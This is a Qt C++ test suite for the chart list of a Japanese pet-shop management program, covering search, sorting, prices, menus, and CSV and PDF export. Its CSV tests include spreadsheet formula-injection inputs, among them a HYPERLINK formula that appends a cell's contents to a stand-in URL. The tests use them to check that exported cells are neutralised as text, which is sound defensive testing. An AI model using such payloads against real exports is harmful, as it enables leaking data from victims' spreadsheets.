#include "backup/BackupService.h"
#include "chartlist/ChartListFilter.h"
#include "chartlist/ChartListModel.h"
#include "chartlist/ChartRows.h"
#include "store/Csv.h"
#include "store/PetRecord.h"
#include "store/RecordFile.h"
#include "support/CsvReader.h"
#include "support/DialogDriver.h"
#include "support/PdfText.h"
#include "support/PickListNames.h"
#include "support/ProgramFixture.h"
#include "support/SampleCharts.h"

#include <QAction>
#include <QApplication>
#include <QComboBox>
#include <QDialog>
#include <QDir>
#include <QFileInfo>
#include <QLabel>
#include <QLineEdit>
#include <QMenuBar>
#include <QPushButton>
#include <QStandardPaths>
#include <QTableView>
#include <QTest>
#include <QTimer>

#include <functional>
#include <memory>

namespace {

struct Chart
{
    QString kind;
    QString sex = QStringLiteral("オス");
    qint16 year = 2024;
    QString purchaseDate;
    QString supplier;
    QString cost;
    QString saleDate;
};

QByteArray recordBytes(const Chart& chart)
{
    PetRecord record = SampleChart{.kind = chart.kind,
                                   .born = QDate(2024, 4, 15),
                                   .sex = chart.sex,
                                   .colour = QStringLiteral("白"),
                                   .purchased = chart.purchaseDate,
                                   .supplier = chart.supplier,
                                   .cost = chart.cost,
                                   .sold = chart.saleDate}
                           .record();
    record.BirthYear = chart.year; // 0: a birth date with no year
    return bytesOf(record);
}

// Five charts and a free record among them: sold and in stock, prices written every which way.
QByteArray shopFile()
{
    QByteArray free(RecordLength, '\0');
    return recordBytes({"シバイヌ", "オス", 2024, "2024/12/1", "山田ブリーダー", "50,000", ""}) +
           recordBytes({"チワワ", "メス", 2023, "2024-11-05", "佐藤", "５００００円", "2025/1/10"}) + free +
           recordBytes({"トイプードル", "メス", 0, "2024年2月3日", "犬舎\"大空\", 東京", "相談", ""}) +
           recordBytes({"ミニチュアダックス", "オス", 2024, "相談中", "山田ブリーダー", "￥120,000", ""}) +
           recordBytes({"柴犬", "メス", 2024, "2024/3/9", "佐藤", "5万", ""});
}

} // namespace

// The chart list: its rows, search, status, sums and sorting, the way to a chart, CSV and PDF.
class TestChartList : public QObject
{
    Q_OBJECT
private slots:
    void init() { f = std::make_unique<ProgramFixture>(); }
    void cleanup() { f.reset(); }

    void rowsSkipFreeRecords();
    void prices_data();
    void prices();
    void searchStatusAndSums();
    void sortsNumbersDatesAndText();
    void menuBarAboveTheUnchangedChart();
    void menusWaitInDirectEntry();
    void doubleClickShowsTheChart();
    void escapeChangesNothing();
    void csvReadsBack();
    void formulaCellsAreWrittenAsText_data();
    void formulaCellsAreWrittenAsText();
    void formulaInAChartGoesOutAsText();
    void failedCsvWriteLeavesNoFile();
    void chartAsPdf();
    void searchFoldsKanaAndSeparators_data();
    void searchFoldsKanaAndSeparators();
    void listKeepsItsViewWhileTheProgramRuns();
    void successIsToldInTheStatusLine_data();
    void successIsToldInTheStatusLine();
    void saveDialogsProposeTheFolderLastUsed();

private:
    bool openChart();
    QWidget* chart() const { return f->window("Form2"); }
    QAction* action(const QString& name) const { return chart()->findChild<QAction*>(name); }

    std::unique_ptr<ProgramFixture> f;
};

bool TestChartList::openChart()
{
    f->start();
    QTest::mouseClick(f->control<QPushButton>("Form1", "Command1"), Qt::LeftButton);
    return chart() && QTest::qWaitForWindowActive(chart());
}

void TestChartList::rowsSkipFreeRecords()
{
    writeFileBytes("detapetto.dt", shopFile() + QByteArray(10, 'x')); // and a trailing partial, free record
    const QList<ChartRow> rows = chartRows(RecordFile("detapetto.dt").loadAllRecords());
    QCOMPARE(rows.size(), 5);
    QCOMPARE(rows[2].number, 4);
    QCOMPARE(rows[0].texts, (QStringList{"1", "シバイヌ", "オス", "白", "2024/4/15", "", "2024/12/1",
                                         "山田ブリーダー", "50,000", "", "", "", "在庫", "", ""}));
    // The microchip column and its search.
    const QList<ChartRow> chipped =
        chartRows(RecordFile("detapetto.dt").loadAllRecords(), {{4, "392141000123456"}});
    QCOMPARE(chipped[2].texts[ChartRow::Microchip], QStringLiteral("392141000123456"));
    ChartListModel model(chipped);
    ChartListFilter filter;
    filter.setSourceModel(&model);
    filter.setSearchText(QStringLiteral("３９２１４１"));
    QCOMPARE(filter.rowCount(), 1);
    QCOMPARE(filter.index(0, ChartRow::Number).data().toString(), QStringLiteral("4"));
    QCOMPARE(rows[1].texts[ChartRow::Status], QStringLiteral("販売済"));
    QCOMPARE(rows[2].texts[ChartRow::Birth], QString()); // year 0: no birth date
    QVERIFY(RecordFile("missing.dt").loadAllRecords().empty());
}

void TestChartList::prices_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<qint64>("yen");
    QTest::newRow("plain") << "50000" << qint64(50000);
    QTest::newRow("grouped") << "50,000" << qint64(50000);
    QTest::newRow("full-width with 円") << "５００００円" << qint64(50000);
    QTest::newRow("yen sign") << "¥50,000" << qint64(50000);
    QTest::newRow("full-width yen sign") << "￥1,280" << qint64(1280);
    QTest::newRow("to be discussed") << "相談" << qint64(-1);
    QTest::newRow("in ten thousands") << "5万" << qint64(-1);
    QTest::newRow("badly grouped") << "5,00" << qint64(-1);
    QTest::newRow("empty") << "" << qint64(-1);
}

void TestChartList::prices()
{
    QFETCH(QString, text);
    QFETCH(qint64, yen);
    const std::optional<qint64> read = readPrice(text);
    QCOMPARE(read.value_or(-1), yen);
}

void TestChartList::searchStatusAndSums()
{
    ChartListModel model(chartRows(RecordFile("missing.dt").loadAllRecords()));
    QCOMPARE(model.rowCount(), 0);

    writeFileBytes("detapetto.dt", shopFile());
    ChartListModel shop(chartRows(RecordFile("detapetto.dt").loadAllRecords()));
    ChartListFilter filter;
    filter.setSourceModel(&shop);
    QCOMPARE(filter.rowCount(), 5);

    // Half-width katakana finds full-width, a full-width digit finds a plain one.
    filter.setSearchText(QStringLiteral("ｼﾊﾞ"));
    QCOMPARE(filter.rowCount(), 1);
    QCOMPARE(filter.index(0, ChartRow::Kind).data().toString(), QStringLiteral("シバイヌ"));
    filter.setSearchText(QStringLiteral("２０２５"));
    QCOMPARE(filter.rowCount(), 1);
    filter.setSearchText(QStringLiteral("山田"));
    QCOMPARE(filter.rowCount(), 2);

    filter.setSearchText(QString());
    filter.setStatus(ChartListFilter::Status::Sold);
    QCOMPARE(filter.rowCount(), 1);
    filter.setStatus(ChartListFilter::Status::InStock);
    QCOMPARE(filter.rowCount(), 4);
    const ChartListFilter::Summary sum = filter.summary();
    QCOMPARE(sum.charts, 4);
    QCOMPARE(sum.inStock, 4);
    QCOMPARE(sum.stockCost, qint64(50000 + 120000)); // 相談 and 5万 left out
    QCOMPARE(sum.unreadableCosts, 2);
}

void TestChartList::sortsNumbersDatesAndText()
{
    writeFileBytes("detapetto.dt", shopFile());
    ChartListModel shop(chartRows(RecordFile("detapetto.dt").loadAllRecords()));
    ChartListFilter filter;
    filter.setSourceModel(&shop);
    const auto column = [&](int col) {
        QStringList texts;
        for (int row = 0; row < filter.rowCount(); ++row)
            texts.append(filter.index(row, col).data().toString());
        return texts;
    };
    filter.sort(ChartRow::PurchaseCost, Qt::AscendingOrder);
    QCOMPARE(column(ChartRow::PurchaseCost),
             (QStringList{"50,000", "５００００円", "￥120,000", "5万", "相談"}));
    filter.sort(ChartRow::PurchaseDate, Qt::AscendingOrder);
    QCOMPARE(column(ChartRow::PurchaseDate),
             (QStringList{"2024年2月3日", "2024/3/9", "2024-11-05", "2024/12/1", "相談中"}));
    filter.sort(ChartRow::Number, Qt::DescendingOrder);
    QCOMPARE(column(ChartRow::Number), (QStringList{"6", "5", "4", "2", "1"}));
}

void TestChartList::menuBarAboveTheUnchangedChart()
{
    QVERIFY(openChart());
    auto* bar = chart()->findChild<QMenuBar*>("menuBar");
    QVERIFY(bar);
    QStringList titles;
    for (QAction* menu : bar->actions())
        titles.append(menu->text());
    QCOMPARE(titles, (QStringList{"ファイル(&F)", "カルテ(&C)", "各種データ(&D)", "ヘルプ(&H)"}));
    QStringList fileItems;
    for (QAction* item : chart()->findChild<QMenu*>("fileMenu")->actions())
        fileItems.append(item->isSeparator() ? QStringLiteral("-") : item->objectName());
    QCOMPARE(fileItems, (QStringList{"actChartList", "actOverview", "actSavePdf", "actExportCsv", "actBackup",
                                     "actRestore", "-", "actRecordBook", "actYearlyReport", "-", "actQuit"}));
    QCOMPARE(action("actChartList")->shortcut(), QKeySequence(Qt::CTRL | Qt::Key_L));
    QCOMPARE(action("actOverview")->shortcut(), QKeySequence(Qt::CTRL | Qt::Key_O));
    QCOMPARE(action("actHelp")->shortcut(), QKeySequence(Qt::Key_F1));
    // Every control keeps its place in the client area below the bar.
    QWidget* client = chart()->findChild<QWidget*>("clientArea");
    QCOMPARE(client->geometry(), QRect(0, bar->height(), 702, 494));
    QCOMPARE(f->control<QPushButton>("Form2", "Command1")->geometry(), QRect(252, 16, 89, 25));

    // 終了 in the menu is the same as the button: a question, then the end.
    f->messages.setNextAnswer(MessageBoxes::Answer::Cancel);
    action("actQuit")->trigger();
    QCOMPARE(f->messages.asked.last().text, QStringLiteral("終了しますか？"));
    QCOMPARE(f->exits, 0);
    // ヘルプ → バージョン情報: the version, the licence, and the components with their versions.
    action("actAbout")->trigger();
    QCOMPARE(f->messages.asked.last().title, QStringLiteral("バージョン情報"));
    const QStringList about = f->messages.asked.last().text.split(QLatin1Char('\n'));
    QCOMPARE(about.mid(0, 4),
             (QStringList{"ソラニカ バージョン 1.00.0002", "ペットショップのカルテ管理プログラム", "",
                          "ライセンス：GNU General Public License バージョン 3 以降（GPL-3.0-or-later）"}));
    const qsizetype parts = about.indexOf(QStringLiteral("使用している部品："));
    QVERIFY(parts > 0);
    QCOMPARE(about.mid(parts + 1, 4),
             (QStringList{"Qt 6.4.2（LGPL-3）", "QCustomPlot 2.1.0（GPL-3）",
                          "SQLite 3.40.1（パブリックドメイン）", "libzip 1.7.3（BSD-3-Clause）"}));
    // ICU converts code page 932 except on Windows.
    QVERIFY(about.size() == parts + 5 ||
            (about.size() == parts + 6 && about.last() == QStringLiteral("ICU 72.1（ICU ライセンス）")));
}

void TestChartList::menusWaitInDirectEntry()
{
    QVERIFY(openChart());
    QTest::mouseClick(f->control<QLineEdit>("Form2", "Text4"), Qt::LeftButton);
    for (const char* name : {"actChartList", "actSavePdf", "actExportCsv", "actQuit"})
        QVERIFY2(!action(name)->isEnabled(), name);
    QVERIFY(!chart()->findChild<QMenu*>("fileMenu")->menuAction()->isEnabled());
    QTest::mouseClick(f->control<QPushButton>("Form2", "Command7"), Qt::LeftButton);
    QVERIFY(action("actChartList")->isEnabled());
}

void TestChartList::doubleClickShowsTheChart()
{
    writeFileBytes("detapetto.dt", shopFile());
    QVERIFY(openChart());
    whenDialogShows([](QDialog* list) {
        QCOMPARE(list->windowTitle(), QStringLiteral("カルテ一覧"));
        QVERIFY(list->findChild<QLabel*>("summary")->text().contains(QStringLiteral("170,000")));
        list->findChild<QLineEdit*>("filterText")->setText(QStringLiteral("ﾄﾞﾙ")); // トイプードル, record 4
        auto* table = list->findChild<QTableView*>("table");
        QCOMPARE(table->model()->rowCount(), 1);
        const QRect cell = table->visualRect(table->model()->index(0, ChartRow::Kind));
        QTest::mouseClick(table->viewport(), Qt::LeftButton, {}, cell.center());
        QTest::mouseDClick(table->viewport(), Qt::LeftButton, {}, cell.center());
    });
    QTest::keyClick(chart(), Qt::Key_L, Qt::ControlModifier);
    QTRY_VERIFY(!QApplication::activeModalWidget());
    QCOMPARE(f->control<QLineEdit>("Form2", "Text1")->text(), QStringLiteral("4"));
    QCOMPARE(f->control<QLabel>("Form2", "Label2")->text().trimmed(), QStringLiteral("トイプードル"));
}

void TestChartList::escapeChangesNothing()
{
    writeFileBytes("detapetto.dt", shopFile());
    QVERIFY(openChart());
    whenDialogShows([](QDialog* list) {
        auto* table = list->findChild<QTableView*>("table");
        table->setFocus();
        table->selectRow(3);
        QTest::keyClick(table, Qt::Key_Escape);
    });
    action("actChartList")->trigger();
    QCOMPARE(f->control<QLineEdit>("Form2", "Text1")->text(), QStringLiteral("1"));
    QCOMPARE(f->control<QLabel>("Form2", "Label2")->text().trimmed(), QStringLiteral("シバイヌ"));

    // Enter on a row is the same as a double-click.
    whenDialogShows([](QDialog* list) {
        auto* table = list->findChild<QTableView*>("table");
        table->setFocus();
        table->selectRow(1);
        QTest::keyClick(table, Qt::Key_Return);
    });
    action("actChartList")->trigger();
    QCOMPARE(f->control<QLineEdit>("Form2", "Text1")->text(), QStringLiteral("2"));
}

void TestChartList::csvReadsBack()
{
    writeFileBytes("detapetto.dt", shopFile());
    QVERIFY(openChart());
    const QString path = f->path("charts.csv");
    f->files.setNextAnswer(path);
    action("actExportCsv")->trigger();
    QVERIFY(f->files.suggested.last().endsWith(QStringLiteral("カルテ一覧_20261207.csv")));
    const QByteArray bytes = readFileBytes(path);
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    QVERIFY(bytes.contains("\r\n"));
    const QList<QStringList> rows = readCsv(QString::fromUtf8(bytes.mid(3)));
    QCOMPARE(rows.size(), 6);
    // Each typed price keeps its column and has its amount as a number beside it.
    QCOMPARE(rows[0], (QStringList{"番号", "種類", "性別", "毛色", "生年月日", "担当者", "仕入日", "仕入先",
                                   "仕入原価", "仕入原価(円)", "販売予定価格", "販売予定価格(円)", "販売日",
                                   "マイクロチップ", "状態", "販売価格", "粗利"}));
    QCOMPARE(rows[1], (QStringList{"1", "シバイヌ", "オス", "白", "2024/4/15", "", "2024/12/1",
                                   "山田ブリーダー", "50,000", "50000", "", "", "", "", "在庫", "", ""}));
    QCOMPARE(rows[2], (QStringList{"2", "チワワ", "メス", "白", "2023/4/15", "", "2024-11-05", "佐藤",
                                   "５００００円", "50000", "", "", "2025/1/10", "", "販売済", "", ""}));
    QCOMPARE(rows[3][7], QStringLiteral("犬舎\"大空\", 東京"));
    QCOMPARE(rows[3].mid(8, 2), (QStringList{"相談", ""}));
    QCOMPARE(rows[4].mid(8, 2), (QStringList{"￥120,000", "120000"}));
    QCOMPARE(rows[5].mid(8, 2), (QStringList{"5万", ""}));

    // Line breaks inside a value survive too.
    const QByteArray table = Csv::document({{"a", "b"}, {"一行目\r\n二行目", "x"}});
    QCOMPARE(readCsv(QString::fromUtf8(table.mid(3)))[1][0], QStringLiteral("一行目\r\n二行目"));
}

void TestChartList::formulaCellsAreWrittenAsText_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("number");
    QTest::addColumn<QByteArray>("line");
    QTest::newRow("hyperlink")
        << QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")") << "1"
        << QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"詳細\"\")\",1").toUtf8();
    QTest::newRow("plus and at") << "+81 3 1234"
                                 << "@SUM(A1)" << QByteArray("'+81 3 1234,'@SUM(A1)");
    QTest::newRow("minus: text or number") << "-5"
                                           << "-5" << QByteArray("'-5,-5");
    QTest::newRow("tab and carriage return") << "\tcmd"
                                             << "\r=1" << QByteArray("'\tcmd,\"'\r=1\"");
    QTest::newRow("not a whole number") << "a=b"
                                        << "=1+2" << QByteArray("a=b,'=1+2");
    QTest::newRow("plain and empty") << "シバ 50,000円"
                                     << "" << QStringLiteral("\"シバ 50,000円\",").toUtf8();
}

// A cell a spreadsheet would run as a formula is written with a leading ', except a whole number in
// a column the program writes numbers into; the heading row is always text.
void TestChartList::formulaCellsAreWrittenAsText()
{
    QFETCH(QString, text);
    QFETCH(QString, number);
    QFETCH(QByteArray, line);
    const QByteArray csv = Csv::document({{"=名前", "-金額"}, {text, number}}, {1});
    QCOMPARE(csv, QByteArray("\xEF\xBB\xBF'=名前,'-金額\r\n") + line + "\r\n");
}

void TestChartList::formulaInAChartGoesOutAsText()
{
    writeFileBytes("detapetto.dt", recordBytes({"=1+1", "-", 2024, "@A1", "+81", "-3000", ""}));
    QVERIFY(openChart());
    const QString path = f->path("charts.csv");
    f->files.setNextAnswer(path);
    whenDialogShows([](QDialog* list) {
        QTest::mouseClick(list->findChild<QPushButton*>("exportCsv"), Qt::LeftButton);
        list->reject();
    });
    action("actChartList")->trigger();
    const QByteArray fromList = readFileBytes(path);
    QVERIFY(fromList.contains(
        QStringLiteral("\r\n1,'=1+1,'-,白,2024/4/15,,'@A1,'+81,'-3000,,,,,,在庫,,\r\n").toUtf8()));
    f->files.setNextAnswer(path);
    action("actExportCsv")->trigger();
    QCOMPARE(readFileBytes(path), fromList);
}

void TestChartList::failedCsvWriteLeavesNoFile()
{
    writeFileBytes("detapetto.dt", shopFile());
    QVERIFY(openChart());
    // The chosen folder is a file: nothing can be written there.
    writeFileBytes("notafolder", "x");
    const QString path = f->path("notafolder/charts.csv");
    f->files.setNextAnswer(path);
    action("actExportCsv")->trigger();
    QCOMPARE(f->messages.asked.size(), 1);
    QCOMPARE(f->messages.asked.last().text, QStringLiteral("ファイルに書き込めません。 (charts.csv)"));
    QVERIFY(!QFileInfo::exists(path));
    QCOMPARE(QDir().entryList(QDir::Files | QDir::Hidden).size(), 2);
}

void TestChartList::chartAsPdf()
{
    if (!canReadPdfText())
        QSKIP("pdftotext (poppler-utils) is not installed");
    writeFileBytes("detapetto.dt", shopFile());
    QVERIFY(openChart());
    const QString path = f->path("chart.pdf");
    f->files.setNextAnswer(path);
    action("actSavePdf")->trigger();
    QVERIFY(f->files.suggested.last().endsWith(QStringLiteral("カルテ_1.pdf")));
    const QStringList printed = pdfTextLines(path);
    QCOMPARE(printed.size(), 13); // the short form's lines that hold text
    QCOMPARE(printed[1], QStringLiteral("☆ 種類 シバイヌ"));
    QCOMPARE(printed.last(), QStringLiteral("---------------- ----------------"));
    QVERIFY(f->messages.asked.isEmpty());
}

void TestChartList::searchFoldsKanaAndSeparators_data()
{
    QTest::addColumn<QString>("search");
    QTest::addColumn<QStringList>("found");
    QTest::newRow("hiragana") << "ぷーどる" << QStringList{"トイ・プードル"};
    QTest::newRow("without the middle dot") << "トイプードル" << QStringList{"トイ・プードル"};
    QTest::newRow("hiragana with a dot") << "とい・ぷーどる" << QStringList{"トイ・プードル"};
    QTest::newRow("half-width dot and kana") << "ﾄｲ･ﾌﾟｰﾄﾞﾙ" << QStringList{"トイ・プードル"};
    QTest::newRow("without the space") << "ミニチュアダックス" << QStringList{"ミニチュア ダックス"};
    QTest::newRow("ideographic space") << "みにちゅあ　だっくす" << QStringList{"ミニチュア ダックス"};
    QTest::newRow("hiragana finds no kanji") << "しば" << QStringList{"シバイヌ"};
    QTest::newRow("kind and supplier stay apart") << "シバイヌ山田" << QStringList{};
}

void TestChartList::searchFoldsKanaAndSeparators()
{
    QFETCH(QString, search);
    QFETCH(QStringList, found);
    const auto kind = [](const char* name, const char* supplier = "") {
        return recordBytes({name, "オス", 2024, "", supplier, "", ""});
    };
    writeFileBytes("detapetto.dt", kind("トイ・プードル") + kind("ミニチュア ダックス") +
                                       kind("シバイヌ", "山田") + kind("柴犬"));
    ChartListModel model(chartRows(RecordFile("detapetto.dt").loadAllRecords()));
    ChartListFilter filter;
    filter.setSourceModel(&model);
    filter.setSearchText(search);
    QStringList kinds;
    for (int row = 0; row < filter.rowCount(); ++row)
        kinds.append(filter.index(row, ChartRow::Kind).data().toString());
    QCOMPARE(kinds, found);
}

// The search, the status choice and the sort come back when the list opens again, also after the
// chart screen was closed on the way to the master data and opened anew.
void TestChartList::listKeepsItsViewWhileTheProgramRuns()
{
    for (const QString& list : PickListNames)
        writeFileBytes(list, QByteArray());
    writeFileBytes("detapetto.dt", shopFile());
    QVERIFY(openChart());
    whenDialogShows([](QDialog* list) {
        list->findChild<QLineEdit*>("filterText")->setText(QStringLiteral("山田"));
        list->findChild<QComboBox*>("filterStatus")->setCurrentIndex(1);
        list->findChild<QTableView*>("table")->sortByColumn(ChartRow::Kind, Qt::DescendingOrder);
        list->reject();
    });
    action("actChartList")->trigger();

    const auto shown = [this] {
        QStringList view;
        whenDialogShows([&view](QDialog* list) {
            auto* table = list->findChild<QTableView*>("table");
            view << list->findChild<QLineEdit*>("filterText")->text()
                 << list->findChild<QComboBox*>("filterStatus")->currentText();
            for (int row = 0; row < table->model()->rowCount(); ++row)
                view << table->model()->index(row, ChartRow::Kind).data().toString();
            list->reject();
        });
        action("actChartList")->trigger();
        return view;
    };
    const QStringList expected{"山田", "在庫", "ミニチュアダックス", "シバイヌ"};
    QCOMPARE(shown(), expected);

    QTest::mouseClick(f->control<QPushButton>("Form2", "Command2"), Qt::LeftButton);
    QTRY_VERIFY(f->window("Form4"));
    QTRY_VERIFY(!chart());
    QTest::mouseClick(f->control<QPushButton>("Form4", "Command19"), Qt::LeftButton);
    QTRY_VERIFY(f->window("Form1"));
    QTest::mouseClick(f->control<QPushButton>("Form1", "Command1"), Qt::LeftButton);
    QTRY_VERIFY(chart());
    QCOMPARE(shown(), expected);
}

void TestChartList::successIsToldInTheStatusLine_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("fileName");
    QTest::addColumn<QString>("told");
    QTest::newRow("backup") << "actBackup"
                            << "shop.zip"
                            << "バックアップを作成しました：shop.zip";
    QTest::newRow("restore") << "actRestore"
                             << "before.zip"
                             << "バックアップから復元しました：before.zip";
    QTest::newRow("charts as CSV") << "actExportCsv"
                                   << "charts.csv"
                                   << "CSVに書き出しました：charts.csv";
    QTest::newRow("ledger as CSV") << "actSaleLedger"
                                   << "ledger.csv"
                                   << "CSVに書き出しました：ledger.csv";
    QTest::newRow("chart as PDF") << "actSavePdf"
                                  << "chart.pdf"
                                  << "PDFに保存しました：chart.pdf";
    QTest::newRow("sheet as PDF") << "actExplanationPdf"
                                  << "sheet.pdf"
                                  << "PDFに保存しました：sheet.pdf";
}

// A file written or read back is told in the chart screen's status line with its name, never in a
// box the shop must click away; a cancelled dialog or a failure tells no success.
void TestChartList::successIsToldInTheStatusLine()
{
    QFETCH(QString, command);
    QFETCH(QString, fileName);
    QFETCH(QString, told);
    writeFileBytes("detapetto.dt", shopFile());
    QVERIFY(openChart());
    f->program->backups().createBackup(f->path("before.zip"));
    auto* statusLine = chart()->findChild<QLabel*>("statusLine");
    QVERIFY(statusLine->isHidden());

    f->files.setNextAnswer(QString()); // cancelled: nothing written, nothing told
    action(command)->trigger();
    QVERIFY(statusLine->isHidden());

    QVERIFY(QDir().mkdir(f->path("folder-in-the-way")));
    if (command != QStringLiteral("actRestore")) {
        f->files.setNextAnswer(f->path("folder-in-the-way"));
        action(command)->trigger();
        QCOMPARE(f->messages.asked.size(), 1);
        QVERIFY(statusLine->isHidden());
        f->messages.asked.clear();
    }

    f->files.setNextAnswer(f->path(fileName));
    f->messages.setNextAnswer(MessageBoxes::Answer::Ok); // the restore's question
    action(command)->trigger();
    QCOMPARE(statusLine->text(), told);
    QVERIFY(statusLine->isVisibleTo(chart()));
    QCOMPARE(f->messages.asked.size(), command == QStringLiteral("actRestore") ? 1 : 0);
}

// Each save dialog proposes the documents folder until the shop chose another folder in it; then that
// one, while it is there. Other dialogs keep their own.
void TestChartList::saveDialogsProposeTheFolderLastUsed()
{
    QVERIFY(openChart());
    const QString documents = QStandardPaths::writableLocation(QStandardPaths::DocumentsLocation);
    const auto lastFolder = [this] { return QFileInfo(f->files.suggested.last()).absolutePath(); };
    action("actBackup")->trigger(); // cancelled
    QCOMPARE(lastFolder(), QDir(documents).absolutePath());

    QVERIFY(QDir().mkdir(f->path("stick")));
    f->files.setNextAnswer(f->path("stick/shop.zip"));
    action("actBackup")->trigger();
    QVERIFY(QFileInfo::exists(f->path("stick/shop.zip")));
    action("actBackup")->trigger();
    QCOMPARE(lastFolder(), f->path("stick"));
    QVERIFY(QFileInfo(f->files.suggested.last()).fileName().endsWith(QStringLiteral(".zip")));
    action("actExportCsv")->trigger();
    QCOMPARE(lastFolder(), QDir(documents).absolutePath());

    QVERIFY(QDir(f->path("stick")).removeRecursively()); // the stick was taken out
    action("actBackup")->trigger();
    QCOMPARE(lastFolder(), QDir(documents).absolutePath());
}

QTEST_MAIN(TestChartList)
#include "test_chartlist.moc"
